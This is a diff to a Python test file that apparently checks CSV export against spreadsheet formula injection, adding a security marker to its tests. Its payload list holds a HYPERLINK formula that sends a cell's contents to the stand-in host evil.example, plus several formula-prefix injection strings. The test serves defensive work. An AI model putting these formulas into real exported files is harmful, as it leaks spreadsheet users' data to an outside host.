@@ -21,7 +21,10 @@ from tests.helpers import run_cli
 LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"clic")'
 PAYLOADS = (LINK, "=1+1", "+1+1", "-1+1", "@SUM(1;2)", "\t=1+1", "\r=1+1")
 
-pytestmark = pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed")
+pytestmark = [
+    pytest.mark.security,
+    pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice not installed"),
+]
 
 
 def _as_spreadsheet(csv_files, tmp_path):
